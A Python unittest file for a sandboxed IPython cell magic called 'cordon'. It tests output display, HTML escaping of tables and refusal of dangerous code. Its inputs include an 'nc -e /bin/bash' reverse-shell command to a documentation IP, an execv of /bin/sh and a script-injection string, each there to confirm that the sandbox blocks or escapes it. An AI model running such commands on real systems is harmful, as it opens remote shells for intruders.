# SPDX-License-Identifier: MIT
"""%%cordon in a real IPython: text, plots, tables, errors, and hostile output."""
import os
import unittest

from support import BINARY, TIER, Case

try:
    from IPython.core.interactiveshell import InteractiveShell
    from traitlets.config import Config
    from IPython.utils.capture import capture_output
except ImportError:
    InteractiveShell = None


@unittest.skipUnless(InteractiveShell, "no IPython")
class Magic(Case):
    def setUp(self):
        super().setUp()
        os.environ.update(CORDON_BINARY=BINARY, XDG_STATE_HOME=self.path("state"), IPYTHONDIR=self.path("ipython"))
        quiet = Config()
        quiet.HistoryManager.enabled = False
        self.shell = InteractiveShell.instance(config=quiet)
        self.shell.run_line_magic("reload_ext", "cordon.ipython")

    def cell(self, code, line=""):
        with capture_output() as seen:
            origin = "" if "--exposed" in line else "--user"
            self.shell.run_cell_magic("cordon", f"--tier {TIER} {origin} {line}", code)
        return seen

    def test_text(self):
        """output and the value of the last line are shown"""
        seen = self.cell("import sys\nprint('h\u00e9')\nprint('no newline', end='')\nprint('oh', file=sys.stderr)\n(6 *\n 7)")
        self.assertEqual((seen.stdout, seen.stderr), ("h\u00e9\nno newline", "oh\n"))
        self.assertEqual([o.data for o in seen.outputs], [{"text/plain": "42"}])
        seen = self.cell("from __future__ import annotations\nx = 1\n1 / 0\n")
        self.assertIn("line 3", seen.stderr)

    def test_plots(self):
        """plots are shown as pictures, tables as tables"""
        seen = self.cell("import matplotlib.pyplot as plt\nimport pandas as pd\nplt.plot([1, 2]); plt.figure(); plt.plot([2, 1])\n"
                         "pd.DataFrame({'a': [1, 2], '<b>': ['x', '<script>alert(1)</script>']})", "--time 60s --memory 1G")
        kinds = [sorted(o.data) for o in seen.outputs]
        self.assertEqual(kinds, [["text/html", "text/plain"], ["image/png", "text/plain"], ["image/png", "text/plain"]], seen.stderr)
        table = seen.outputs[0].data["text/html"]
        self.assertIn("<td>1</td>", table)
        self.assertIn("&lt;script&gt;", table)
        self.assertNotIn("<script", table)

    def test_hostile(self):
        """a program that forges a marked line can only show a text, a picture or a table"""
        seen = self.cell("import re\nmark = re.search('cordon-[0-9a-f]+:', open(__file__).read()).group()\n"
                         "for item in ('{\"png\": \"PHN2Zz4=\"}', '{\"html\": \"<b>\"}', '[]', '{', '{\"png\": 1}', '{\"text\": \"<b>x\"}'):\n print(mark + item)")
        self.assertEqual([o.data for o in seen.outputs], [{"text/plain": "<b>x"}])
        self.assertEqual(seen.stdout.count("\n"), 5)

    def test_errors(self):
        """refusals, limits and wrong options are shown with the text of Cordon"""
        self.assertIn("CORDON-2026-0001", self.cell("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')", "--exposed").stderr)
        self.assertIn("time", self.cell("while True: pass", "--time 300ms").stderr)
        self.assertIn("is not an option", self.cell("1", "nonsense").stderr)
        self.assertIn("cordon: ", self.cell("1 +").stderr)
        self.assertIn("refused: execve", self.cell("import os\nos.execv('/bin/sh', ['sh'])").stderr)
